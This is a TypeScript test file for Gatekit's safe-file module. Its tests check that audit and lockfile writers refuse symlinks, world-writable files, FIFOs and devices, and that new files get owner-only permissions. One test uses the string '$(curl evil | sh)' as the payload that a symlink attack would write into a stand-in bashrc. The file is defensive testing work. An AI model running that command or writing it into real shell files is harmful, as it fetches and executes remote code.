// Opening the files Gatekit writes: no symbolic link at the path is ever followed, a file other users
// can write (or own) is refused, new files are 0600 in 0700 folders, and the atomic lockfile write
// goes through a fresh O_EXCL temporary file. Every writer (audit files, the pin lockfile) is checked
// through its own entry point, on real files.
import * as assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { execFileSync } from 'node:child_process';
import { openAuditFile, AuditFileError } from '../../../src/plugins/auditing/audit-file';
import { createExclusive, openForAppend, openForAppendSync, UnsafeFileError, writeFileAtomically } from '../../../src/plugins/safe-file';
import { emptyLockfile, updateLockfile, writeLockfile } from '../../../src/plugins/security/pin-store';

const posix = process.platform !== 'win32';

describe('safe file opening (audit files, lockfile, log file)', () => {
  let dir: string;
  let victim: string;
  const original = '# shell start-up\n';

  beforeEach(() => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'gatekit-safe-file-'));
    victim = path.join(dir, 'bashrc');
    writeFileSync(victim, original);
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('never appends through a symbolic link at the path (async and sync openers)', async () => {
    const link = path.join(dir, 'audit.jsonl');
    symlinkSync(victim, link);
    await assert.rejects(openForAppend(link), (err: unknown) => err instanceof UnsafeFileError && /symbolic link/.test(err.message));
    assert.throws(() => openForAppendSync(link), /symbolic link/);
    // A dangling link would otherwise create its target.
    const dangling = path.join(dir, 'dangling.log');
    symlinkSync(path.join(dir, 'created-through-link'), dangling);
    await assert.rejects(openForAppend(dangling), /symbolic link/);
    assert.equal(existsSync(path.join(dir, 'created-through-link')), false);
    assert.equal(readFileSync(victim, 'utf8'), original);
  });

  it('an audit plugin whose file is a link fails its record and writes nothing', async () => {
    const link = path.join(dir, 'audit.jsonl');
    symlinkSync(victim, link);
    const lease = openAuditFile({ path: link, maxBytes: 1024, backupCount: 0 });
    await assert.rejects(lease.append('$(curl evil | sh)'), (err: unknown) => err instanceof AuditFileError && /symbolic link/.test(err.message));
    await lease.close();
    assert.equal(readFileSync(victim, 'utf8'), original);
  });

  it('refuses an existing file that other users can write, and one in a FIFO or device', async function () {
    if (!posix) this.skip();
    const shared = path.join(dir, 'shared.log');
    writeFileSync(shared, '');
    chmodSync(shared, 0o622);
    await assert.rejects(openForAppend(shared), /other users can write to it \(mode 0622\)/);
    const lease = openAuditFile({ path: shared, maxBytes: 1024, backupCount: 0 });
    await assert.rejects(lease.append('x'), /other users can write/);
    await lease.close();
    assert.equal(readFileSync(shared, 'utf8'), '');
    await assert.rejects(openForAppend('/dev/null'), /not a regular file/);
    const fifo = path.join(dir, 'fifo');
    execFileSync('mkfifo', [fifo]);
    // Refused at once: without a reader a blocking open would hang the gateway.
    await assert.rejects(openForAppend(fifo), /not a regular file/);
  });

  it('creates new files 0600 in new 0700 folders, whatever the umask', async function () {
    if (!posix) this.skip();
    const file = path.join(dir, 'new', 'deeper', 'audit.log');
    const previous = process.umask(0);
    try {
      const handle = await openForAppend(file);
      await handle.close();
    } finally {
      process.umask(previous);
    }
    assert.equal(statSync(file).mode & 0o777, 0o600);
    assert.equal(statSync(path.join(dir, 'new')).mode & 0o777, 0o700);
    assert.equal(statSync(path.join(dir, 'new', 'deeper')).mode & 0o777, 0o700);
  });

  it('writes the lockfile atomically without following a link at the path or at a temporary name', async () => {
    const lockfile = path.join(dir, 'gatekit.lock.json');
    symlinkSync(victim, lockfile);
    await assert.rejects(writeLockfile(lockfile, emptyLockfile()), /symbolic link/);
    await assert.rejects(updateLockfile(lockfile, () => true), /symbolic link/);
    assert.equal(readFileSync(victim, 'utf8'), original);
    assert.ok(statSync(lockfile, { throwIfNoEntry: false }) !== undefined);
    // Nothing left behind: no temporary file, no lock.
    assert.deepEqual(readdirSync(dir).sort(), ['bashrc', 'gatekit.lock.json']);
    // A planted link at a temporary or lock name is never opened through: O_EXCL refuses it.
    const temp = path.join(dir, 'planted.tmp');
    symlinkSync(victim, temp);
    await assert.rejects(createExclusive(temp), /EEXIST/);
    assert.equal(readFileSync(victim, 'utf8'), original);
  });

  it('refuses to replace a lockfile other users can write, and replaces a safe one owner-only', async function () {
    if (!posix) this.skip();
    const lockfile = path.join(dir, 'gatekit.lock.json');
    writeFileSync(lockfile, '{}');
    chmodSync(lockfile, 0o666);
    await assert.rejects(writeFileAtomically(lockfile, 'new'), /other users can write/);
    assert.equal(readFileSync(lockfile, 'utf8'), '{}');
    chmodSync(lockfile, 0o644);
    await writeLockfile(lockfile, emptyLockfile());
    assert.equal(statSync(lockfile).mode & 0o777, 0o600);
    assert.match(readFileSync(lockfile, 'utf8'), /"version": 1/);
  });
});
